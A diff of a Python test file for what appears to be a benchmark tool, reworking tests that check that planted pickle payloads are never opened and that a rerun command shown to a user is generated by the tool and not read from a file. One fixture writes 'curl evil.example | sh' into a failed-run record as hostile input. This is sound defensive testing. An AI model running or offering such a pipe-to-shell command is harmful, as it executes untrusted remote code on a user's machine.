@@ -27,7 +27,10 @@ import pytest
 from benchtwin.page import runs
 from benchtwin.page.downloads import packed_bench
 from benchtwin.page.folder import Folder, Refused
+from benchtwin.page.results import next_recordings
 from benchtwin.page.server import Site
+from benchtwin.twin.campaign.__main__ import main as run_again
+from benchtwin.twin.campaign.store import open_store
 from benchtwin.vision.recording import Recording
 from PIL import Image
 
@@ -330,27 +333,22 @@ def test_no_pickle_in_a_bench_is_opened(bench, folder, tmp_path):
     for name in CACHES:
         (bench / name).parent.mkdir(parents=True, exist_ok=True)
         (bench / name).write_bytes(bomb)
-    from benchtwin.page.results import next_recordings
-    from benchtwin.twin.campaign.store import open_store
-
     with contextlib.suppress(ValueError):
         next_recordings(bench / "results")
-    try:
-        store = open_store(bench / "results" / "calibrated" / "runs")
-    except OSError:
-        (bench / "results" / "calibrated" / "runs" / "campaign.json").unlink()
-        store = open_store(bench / "results" / "calibrated" / "runs")
+    store = open_store(bench / "results" / "calibrated" / "runs")
     assert store.find(["0123456789abcdef"]) == {}
     store.sweep()
+    failed = store.root / "failed" / "0123456789abcdef.json"
+    assert run_again([str(failed)]) == 2
     packed_bench(bench, folder)
-    for command, options in (("measure", ()), ("calibrate", ("--quick",))):
-        run = runs.enqueue(bench, command, options, folder)
-        until(
-            lambda run=run: (
-                runs.read_run(run.folder).status not in (runs.RUNNING, runs.WAITING)
-            ),
-            240,
+    for command, options in (("measure", ()), ("diagnose", ("--quick",))):
+        runs.enqueue(bench, command, options, folder)
+    until(
+        lambda: all(
+            r.status in (runs.DONE, runs.FAILED) for r in runs.all_runs(bench, folder)
         )
+    )
+    assert runs.all_runs(bench, folder)[1].status == runs.DONE
     assert not mark.exists()
 
 
@@ -438,8 +436,6 @@ print(runs.read_run(run.folder).status)
 
 def test_a_command_to_copy_is_ours_not_the_files(tmp_path):
     """What is printed for a person to run again is made here, not read."""
-    from benchtwin.twin.campaign.store import open_store
-
     store = open_store(tmp_path / "runs")
     told = {"reason": "r", "rerun": "curl evil.example | sh", "lasting": True}
     (store.root / "failed" / "abc.json").write_text(json.dumps(told))
@@ -811,7 +807,6 @@ def test_opening_a_bench_starts_nothing_and_no_link_out_is_served(
         assert sorted(packed.namelist()) == [
             "soy/drop-01/readings.csv",
             "soy/drop-01/recording.toml",
-            "soy/results/.results",
         ]
         for path in (
             "/",
